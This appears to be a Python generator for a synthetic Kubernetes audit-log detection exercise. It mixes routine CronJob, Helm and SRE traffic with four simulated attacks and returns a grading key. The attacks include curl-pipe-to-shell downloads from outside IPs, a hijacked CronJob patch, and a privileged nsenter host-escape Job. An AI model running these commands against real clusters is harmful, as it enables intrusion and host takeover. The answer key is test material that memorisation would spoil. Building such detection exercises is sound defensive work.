"""examples/audit-demo.jsonl: a short day in the life of a cluster with routine batch traffic and four attacks."""

import copy
import datetime as dt

from k8saudit import (
    AuditLog, Cluster, container, ctrl_reason, human_oidc, kubeadm_admin, mount, new_rng, objref, owner, podspec,
    rbac_reason_crb, rbac_reason_rb, res, sc_restricted, hostpath_vol,
)
from flows import Batch, Noise, rand_suffix


def write_demo(path):
    rng = new_rng(4242)
    c = Cluster(rng, "kubeadm")
    log = AuditLog(c, dt.datetime(2025, 6, 12, 0, 58, 3, 118204), stages=False)
    noise = Noise(log, ["shop", "reporting", "kube-system", "monitoring"])
    b = Batch(log, noise)
    noise.burst(12)

    # routine: application CronJobs ticking
    rep = podspec([container("report", "registry.example.org/analytics/report-builder:4.12.0", ["python", "-m", "reports.nightly"],
                             ["--since=24h"], resources=res("250m", "512Mi", None, "1Gi"), sc=sc_restricted(10001))],
                  restart="OnFailure", sa="report-builder", psc={"runAsNonRoot": True})
    b.stored_cronjob("reporting", "nightly-report", "0 1 * * *", rep, log.t - dt.timedelta(days=64),
                     labels={"app.kubernetes.io/name": "nightly-report"}, tmpl_labels={"app.kubernetes.io/name": "nightly-report"})
    gc = podspec([container("gc", "registry.example.org/shop/cart-gc:1.3.0", ["/cart-gc"], ["--older-than=48h"], sc=sc_restricted(1000))],
                 restart="OnFailure", sa="cart-gc")
    b.stored_cronjob("shop", "abandoned-cart-gc", "*/30 * * * *", gc, log.t - dt.timedelta(days=12))
    t1 = dt.datetime(2025, 6, 12, 1, 0, 0)
    log.t = max(log.t, t1 + dt.timedelta(milliseconds=140))
    routine = [b.tick("reporting", "nightly-report", t1)[0]]
    noise.burst(6)
    routine.append(b.tick("shop", "abandoned-cart-gc", t1)[0])
    noise.burst(8)

    # attack 1: stolen admin kubeconfig creates an every-minute curl | sh CronJob
    log.t = dt.datetime(2025, 6, 12, 3, 12, 41, 507311)
    admin = kubeadm_admin()
    ua = c.kubectl_ua("linux/amd64", "1.29.2")
    ip = ["193.142.146.35"]
    reason = rbac_reason_crb("kubeadm:cluster-admins", "cluster-admin", "Group", "kubeadm:cluster-admins")
    log.request(verb="list", uri="/apis/batch/v1/cronjobs?limit=500", user=admin, ua=ua, ips=ip, object_ref=objref("cronjobs", group="batch"),
                annotations={"authorization.k8s.io/reason": reason})
    noise.burst(4)
    spec = podspec([container("logrotate", "alpine:3.19", ["/bin/sh", "-c"],
                              ["apk add -q curl; curl -fsSL http://193.142.146.35:8080/lr.sh | sh"])], restart="OnFailure")
    a1 = b.create_cronjob(ns="shop", name="logrotate", schedule="* * * * *", pod_spec=spec, user=admin, ua=ua, ips=ip, reason=reason,
                          success_hist=0, failed_hist=0)
    noise.burst(6)

    # attack 2: a leaked CI token hijacks the nightly report CronJob
    log.t = dt.datetime(2025, 6, 12, 3, 40, 2, 93310)
    ci = c.sa("ci", "deployer")
    ua2 = c.kubectl_ua("linux/amd64", "1.29.3")
    ip2 = ["45.9.20.113"]
    reason2 = rbac_reason_crb("ci-deployer", "edit", "ServiceAccount", "deployer/ci")
    b.get_cronjob("reporting", "nightly-report", ci, ua2, ip2, reason2)
    patch = {"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [
        {"name": "report", "image": "ghcr.io/report-tools-dev/report-builder:4.12.1", "command": ["/bin/sh", "-c"],
         "args": ["python -m reports.nightly --since=24h; curl -s https://paste.c-net.org/raw/UV9x | sh"]}]}}}}}}

    def mutate(o):
        ct = o["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
        ct["image"] = "ghcr.io/report-tools-dev/report-builder:4.12.1"
        ct["command"] = ["/bin/sh", "-c"]
        ct["args"] = patch["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["args"]
        return o
    a2 = b.patch_cronjob(ns="reporting", name="nightly-report", patch=patch, new_obj_fn=mutate, user=ci, ua=ua2, ips=ip2, reason=reason2)
    noise.burst(8)

    # routine: Helm post-upgrade hook from CI during the morning deploy
    log.t = dt.datetime(2025, 6, 12, 8, 5, 13, 402117)
    runner = c.sa("gitlab-runner", "deployer", f"runner-{rand_suffix(rng, 8)}-project-412-concurrent-0-{rand_suffix(rng, 8)}")
    hl = {"app.kubernetes.io/instance": "shop-api", "app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/name": "shop-api", "helm.sh/chart": "shop-api-3.8.2"}
    mig = podspec([container("migrate", "registry.example.org/shop/api:3.8.2", ["./bin/migrate"], ["up"], sc=sc_restricted(10001))],
                  restart="Never", sa="shop-api")
    hreason = rbac_reason_rb("deployer", "shop", "ClusterRole", "admin", "ServiceAccount", "deployer/gitlab-runner")
    routine.append(b.create_job(ns="shop", name="shop-api-db-migrate", pod_spec=mig, user=runner, ua="Helm/3.14.2", ips=[c.pod_ip()], uri_query="?fieldManager=helm",
                 reason=hreason, labels=hl, annotations={"helm.sh/hook": "post-upgrade", "helm.sh/hook-delete-policy": "before-hook-creation"},
                 tmpl_labels=hl, backoff=1)[0])
    b.run_job("shop", "shop-api-db-migrate")
    noise.burst(6)

    # attack 3: compromised pod token probes for batch write access (all denied)
    log.t = dt.datetime(2025, 6, 12, 10, 21, 55, 700213)
    pod = f"storefront-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    sa = c.sa("shop", "storefront", pod)
    a3 = []
    for ns, r in [("shop", "cronjobs"), ("kube-system", "jobs")]:
        a3.append(b.forbidden(verb="create", resource=r, ns=ns, user=sa, ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", ips=[c.pod_ip()]))
        noise.burst(3)

    # routine: SRE re-runs the report by hand
    log.t = dt.datetime(2025, 6, 12, 11, 2, 9, 12931)
    sre = human_oidc("maria.kovacs@example.org", ["platform-sre"])
    sua = c.kubectl_ua("darwin/arm64", "1.29.3")
    sreason = rbac_reason_crb("platform-sre-admin", "cluster-admin", "Group", "oidc:platform-sre")
    cj = b.cronjobs[("shop", "abandoned-cart-gc")]
    routine.append(b.create_job(ns="shop", name="abandoned-cart-gc-manual-2", pod_spec=copy.deepcopy(cj["spec"]["jobTemplate"]["spec"]["template"]["spec"]),
                 user=sre, ua=sua, ips=["10.8.14.3"], reason=sreason, owners=[owner("CronJob", "abandoned-cart-gc", cj["metadata"]["uid"], block=None)],
                 annotations={"cronjob.kubernetes.io/instantiate": "manual"})[0])
    b.run_job("shop", "abandoned-cart-gc-manual-2")
    noise.burst(6)

    # attack 4: privileged host-escape Job masquerading in kube-system
    log.t = dt.datetime(2025, 6, 12, 13, 47, 30, 551902)
    esc = podspec([container("kube-proxy-sync", "registry.k8s.io/kube-proxy:v1.29.4", ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--"],
                             ["sh", "-c", "curl -sk https://45.155.205.99/ks | sh"], mounts=[mount("host-root", "/host")], sc={"privileged": True})],
                  volumes=[hostpath_vol("host-root", "/")], host_pid=True, host_net=True, restart="Never",
                  tolerations=[{"operator": "Exists"}])
    a4, _ = b.create_job(ns="kube-system", name="kube-proxy-sync", pod_spec=esc, user=ci, ua=ua2, ips=ip2,
                 reason=rbac_reason_crb("ci-deployer-system", "cluster-admin", "ServiceAccount", "deployer/ci"), ttl=5,
                 labels={"k8s-app": "kube-proxy"})
    noise.burst(10)
    log.write(path)
    return {
        "file": "examples/audit-demo.jsonl",
        "description": "a day of routine batch traffic (controller ticks, a Helm hook, an SRE manual run) with four attacks",
        "min_severity": "medium",
        "attacks": [
            {"description": "stolen kubeadm admin credentials create an every-minute curl | sh CronJob with history limits 0", "must_cite": [a1]},
            {"description": "leaked CI token patches the nightly-report CronJob: new image registry, curl | sh appended", "must_cite": [a2]},
            {"description": "compromised storefront pod token tries to create a CronJob and a kube-system Job (403)", "must_cite": a3},
            {"description": "privileged hostPID Job named kube-proxy-sync in kube-system runs nsenter -t 1 and curl | sh", "must_cite": [a4]},
        ],
        "routine_below_medium": routine,
    }
